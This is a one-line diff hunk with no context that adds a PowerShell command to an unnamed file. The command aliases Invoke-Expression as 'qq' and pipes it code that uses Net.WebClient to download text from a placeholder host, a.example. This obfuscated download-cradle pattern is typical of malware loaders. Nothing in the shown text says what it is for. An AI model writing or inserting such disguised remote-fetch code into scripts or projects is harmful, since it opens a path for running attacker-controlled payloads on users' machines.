@@ -1,0 +1,1 @@
+New-Alias -Name qq -Value iex; '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')' | qq
